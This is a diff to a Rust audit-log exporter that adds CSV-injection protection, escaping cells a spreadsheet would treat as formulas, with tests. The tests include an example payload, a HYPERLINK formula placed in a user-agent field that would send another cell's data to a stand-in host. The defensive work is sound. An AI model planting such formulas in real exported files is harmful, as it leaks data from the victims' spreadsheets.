@@ -80,6 +80,20 @@ struct ExportRow {
     summary: String,
 }
 
+impl ExportRow {
+    /// Every cell, in column order.
+    fn cells(&self) -> [&str; 7] {
+        [&self.time, &self.event, &self.actor, &self.ip, &self.country, &self.user_agent, &self.summary]
+    }
+}
+
+/// A cell as a spreadsheet may safely open it: text a spreadsheet would read as a formula
+/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is prefixed with `'`, so a
+/// user agent or a name a server controls can never run as one (OWASP's CSV injection rule).
+fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}").into() } else { cell.into() }
+}
+
 /// The columns, as the CSV header names them.
 const HEADER: [&str; 7] = ["time", "event", "actor", "ip", "country", "user_agent", "summary"];
 
@@ -200,7 +214,10 @@ impl<W: Write> RowWriter<W> {
 
     fn write(&mut self, row: &ExportRow) -> std::io::Result<()> {
         match self {
-            Self::Csv(writer) => writer.serialize(row).map_err(std::io::Error::other),
+            Self::Csv(writer) => {
+                let cells = row.cells().map(spreadsheet_safe);
+                writer.write_record(cells.iter().map(|cell| cell.as_bytes())).map_err(std::io::Error::other)
+            }
             Self::Json { out, first } => {
                 out.write_all(if *first { b"\n  " } else { b",\n  " })?;
                 *first = false;
@@ -223,6 +240,45 @@ impl<W: Write> RowWriter<W> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_read_as_a_formula_is_made_text() {
+        for trigger in ["=", "+", "-", "@", "\t", "\r"] {
+            let cell = format!("{trigger}HYPERLINK(\"https://x/?\"&G2,\"details\")");
+            assert_eq!(spreadsheet_safe(&cell), format!("'{cell}"), "{trigger:?}");
+        }
+        for plain in ["curl/8.5", "2026-06-11T20:22:05.311Z", "", "a=b", "Ada (USR-0000-0001)"] {
+            assert_eq!(spreadsheet_safe(plain), plain);
+        }
+    }
+
+    #[test]
+    fn the_csv_writes_a_formula_as_text_and_json_keeps_it_as_sent() {
+        let row = ExportRow {
+            time: "2026-06-11T20:22:05.311Z".into(),
+            event: "e".into(),
+            actor: "@Ada".into(),
+            ip: "10.0.0.1".into(),
+            country: "-GB".into(),
+            user_agent: "=HYPERLINK(\"https://x/?\"&G2,\"details\")".into(),
+            summary: "+1".into(),
+        };
+        let write = |format| {
+            let mut out = Vec::new();
+            let mut writer = RowWriter::new(format, &mut out).expect("writer");
+            writer.write(&row).expect("row");
+            writer.finish().expect("done");
+            String::from_utf8(out).expect("utf-8")
+        };
+        let csv = write(ExportFormat::Csv);
+        assert_eq!(
+            csv.lines().nth(1),
+            Some(
+                "2026-06-11T20:22:05.311Z,e,'@Ada,10.0.0.1,'-GB,\"'=HYPERLINK(\"\"https://x/?\"\"&G2,\"\"details\"\")\",'+1"
+            )
+        );
+        assert!(write(ExportFormat::Json).contains(r#""user_agent":"=HYPERLINK"#));
+    }
 
     #[test]
     fn every_column_is_scrubbed_of_secrets_prefixed_or_bare() {
